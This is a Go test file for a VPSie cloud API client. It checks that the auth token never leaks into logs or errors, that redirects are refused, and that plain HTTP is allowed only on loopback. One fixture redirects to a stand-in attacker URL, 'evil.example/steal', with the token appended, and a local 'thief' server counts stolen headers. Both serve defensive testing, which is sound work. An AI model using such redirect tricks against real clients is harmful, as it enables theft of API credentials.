package vpsie_test

import (
	"bytes"
	"errors"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vpsie/node-rebalancer/libs/cloud"
	"github.com/vpsie/node-rebalancer/libs/cloud/vpsie"
)

// TestTheTokenNeverLeaksFromAFailingCall runs calls that fail every way a
// call fails and greps the client's logs, at debug level, and the errors
// for the token.
func TestTheTokenNeverLeaksFromAFailingCall(t *testing.T) {
	t.Parallel()
	echo := func(status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			_, _ = w.Write([]byte(`{"error":true,"message":"bad token ` + r.Header.Get("Vpsie-Auth") + `"}`))
		}
	}
	for _, tc := range []struct {
		name    string
		handler http.Handler
		want    error
	}{
		{"401 echoing the token", echo(http.StatusUnauthorized), cloud.ErrUnauthorized},
		{"500 echoing the token", echo(http.StatusInternalServerError), cloud.ErrTransient},
		{"503 with HTML", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusServiceUnavailable)
			_, _ = w.Write([]byte("<html>" + r.Header.Get("Vpsie-Auth") + "</html>"))
		}), cloud.ErrTransient},
		{"a redirect", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/steal?t="+r.Header.Get("Vpsie-Auth"), http.StatusFound)
		}), cloud.ErrInvalid},
		{"a timeout", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			select {
			case <-r.Context().Done():
			case <-time.After(2 * time.Second):
			}
		}), cloud.ErrTransient},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var logs bytes.Buffer
			c := newClient(t, serveHandler(t, tc.handler), func(o *vpsie.Options) {
				o.Logger = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
				o.Retry.MaxAttempts = 2
				o.AttemptTimeout = 100 * time.Millisecond
			})
			_, err := c.Quota(t.Context())
			require.ErrorIs(t, err, tc.want)
			require.NotEmpty(t, logs.String(), "the calls were logged")
			for e := err; e != nil; e = errors.Unwrap(e) {
				require.NotContains(t, e.Error(), token)
			}
			require.NotContains(t, logs.String(), token)
		})
	}
}

// TestRedirectsAreNotFollowed: Go's client resends custom headers such as
// Vpsie-Auth to a redirect's target, so the client must not follow any.
func TestRedirectsAreNotFollowed(t *testing.T) {
	t.Parallel()
	var stolen atomic.Int32
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Vpsie-Auth") != "" {
			stolen.Add(1)
		}
		_, _ = w.Write([]byte(okQuota))
	}))
	t.Cleanup(thief.Close)
	for _, status := range []int{http.StatusMovedPermanently, http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
		srv, url := serveScript(t, answer{status, http.Header{"Location": {thief.URL + "/api/v2/account/quota"}}, ""})
		_, err := newClient(t, url).Quota(t.Context())
		require.ErrorIs(t, err, cloud.ErrInvalid, "HTTP %d", status)
		require.ErrorContains(t, err, "redirect")
		require.Equal(t, 1, srv.count(), "a redirect is not retried")
	}
	require.Zero(t, stolen.Load(), "the redirect target never saw the token")

	// A caller's own client keeps its redirect policy; the Client uses a copy.
	own := &http.Client{}
	c := newClient(t, thief.URL, func(o *vpsie.Options) { o.HTTPClient = own })
	_, err := c.Quota(t.Context())
	require.NoError(t, err)
	require.Nil(t, own.CheckRedirect)
}

func TestPlainHTTPOnlyOnLoopback(t *testing.T) {
	t.Parallel()
	valid := vpsie.Options{Token: "t", OSIdentifier: "os"}
	for url, ok := range map[string]bool{
		"":                          true, // https://api.vpsie.com
		"https://api.vpsie.com":     true,
		"https://10.0.0.5:8443":     true,
		"http://127.0.0.1:8080":     true,
		"http://127.1.2.3":          true,
		"http://localhost:9000":     true,
		"http://[::1]:9000":         true,
		"http://api.vpsie.com":      false,
		"http://10.0.0.5:8080":      false,
		"http://localhost.evil.com": false,
		"http://[::ffff:10.0.0.1]":  false,
		"https://u:p@api.vpsie.com": false,
		"ftp://127.0.0.1":           false,
	} {
		o := valid
		o.BaseURL = url
		_, err := vpsie.New(o)
		if ok {
			require.NoError(t, err, url)
			continue
		}
		require.Error(t, err, url)
	}
	o := valid
	o.BaseURL = "http://api.vpsie.com"
	_, err := vpsie.New(o)
	require.ErrorContains(t, err, "plain http")
}
